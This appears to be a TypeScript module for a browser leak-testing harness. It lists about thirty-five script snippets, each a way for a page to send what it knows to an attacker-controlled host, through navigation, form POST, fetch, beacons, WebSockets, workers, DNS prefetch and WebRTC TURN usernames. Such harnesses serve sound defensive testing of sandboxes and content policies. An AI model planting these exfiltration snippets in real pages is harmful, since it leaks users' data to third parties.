/** A way out of a page, as script that tries it. */
export interface Channel {
  readonly name: string;
  /**
   * Runs in the page's script with `url` (https, of the channel's own host at the attacker, what the page knows in its
   * query), `data` (what it knows), `name` (a host that nobody has but who is asked for it), `tcpPort`, `udpPort` and
   * `add(tag, properties)`; a promise is waited for.
   */
  readonly script: string;
  /** True when it leads the whole tab away: it is then opened by itself, the others in frames of one page. */
  readonly isTop?: true;
}

const iceGathering = `
  const peer = new RTCPeerConnection({ iceServers: [server] });
  peer.createDataChannel("x");
  await peer.setLocalDescription(await peer.createOffer());
  await new Promise((resolve) => setTimeout(resolve, 800));`;

/** The ways by which a page may send what it knows. */
export const channels: readonly Channel[] = [
  { name: "navigation", isTop: true, script: `location.href = url` },
  { name: "plain-http", isTop: true, script: `location.href = url.replace("https:", "http:")` },
  { name: "meta-refresh", isTop: true, script: `add("meta", { httpEquiv: "refresh", content: "0;url=" + url })` },
  {
    name: "form-post",
    isTop: true,
    script: `const form = add("form", { method: "post", action: url }); form.append(Object.assign(document.createElement("input"), { name: "d", value: data })); form.submit()`,
  },
  { name: "popup", isTop: true, script: `open(url)` },
  { name: "sub-frame", script: `add("iframe", { src: url })` },
  { name: "nested-frame", script: `add("iframe", { srcdoc: "<iframe src='" + url + "'></iframe>" })` },
  { name: "image", script: `add("img", { src: url })` },
  { name: "image-redirect", script: `add("img", { src: "/leaktest/redirect?to=" + encodeURIComponent(url) })` },
  { name: "stylesheet", script: `add("link", { rel: "stylesheet", href: url })` },
  { name: "css-image", script: `document.body.style.backgroundImage = "url('" + url + "')"` },
  { name: "font", script: `await new FontFace("f", "url('" + url + "')").load().catch(() => 0)` },
  { name: "script", script: `add("script", { src: url })` },
  { name: "video", script: `add("video", { src: url, autoplay: true, muted: true })` },
  { name: "object", script: `add("object", { data: url })` },
  { name: "fetch", script: `await fetch(url, { mode: "no-cors", method: "POST", body: data }).catch(() => 0)` },
  { name: "xhr", script: `const x = new XMLHttpRequest(); x.open("POST", url); x.send(data)` },
  {
    name: "websocket",
    script: `await new Promise((resolve) => { new WebSocket(url.replace("https", "wss")).onclose = resolve })`,
  },
  { name: "event-source", script: `new EventSource(url).onerror = (event) => event.target.close()` },
  { name: "beacon", script: `navigator.sendBeacon(url, data)` },
  { name: "link-ping", script: `add("a", { href: "#x", ping: url }).click()` },
  { name: "data-document", script: `add("iframe", { src: "data:text/html,<img src='" + url + "'>" })` },
  {
    name: "blob-document",
    script: `add("iframe", { src: URL.createObjectURL(new Blob(["<img src='" + url + "'>"], { type: "text/html" })) })`,
  },
  { name: "prefetch", script: `add("link", { rel: "prefetch", href: url })` },
  { name: "preload", script: `add("link", { rel: "preload", as: "image", href: url })` },
  { name: "preconnect", script: `add("link", { rel: "preconnect", href: url })` },
  { name: "dns-prefetch", script: `add("link", { rel: "dns-prefetch", href: "https://" + name })` },
  { name: "name", script: `await fetch("https://" + name, { mode: "no-cors" }).catch(() => 0)` },
  { name: "worker", script: `new Worker(URL.createObjectURL(new Blob(["fetch('" + url + "',{mode:'no-cors'})"])))` },
  { name: "shared-worker", script: `new SharedWorker("/leaktest/fetches.js?to=" + encodeURIComponent(url))` },
  {
    name: "service-worker",
    script: `await Promise.race([navigator.serviceWorker.register("/leaktest/fetches.js?to=" + encodeURIComponent(url)).catch(() => 0), new Promise((resolve) => setTimeout(resolve, 500))])`,
  },
  { name: "webrtc-stun", script: `const server = { urls: "stun:127.0.0.1:" + udpPort };${iceGathering}` },
  {
    name: "webrtc-turn",
    script: `const server = { urls: "turn:127.0.0.1:" + udpPort, username: data.slice(0, 200), credential: "p" };${iceGathering}`,
  },
  {
    name: "webrtc-turn-tcp",
    script: `const server = { urls: "turn:127.0.0.1:" + tcpPort + "?transport=tcp", username: data.slice(0, 200), credential: "p" };${iceGathering}`,
  },
  {
    name: "webtransport",
    script: `await Promise.race([new WebTransport("https://127.0.0.1:" + udpPort).ready.catch(() => 0), new Promise((resolve) => setTimeout(resolve, 500))])`,
  },
];
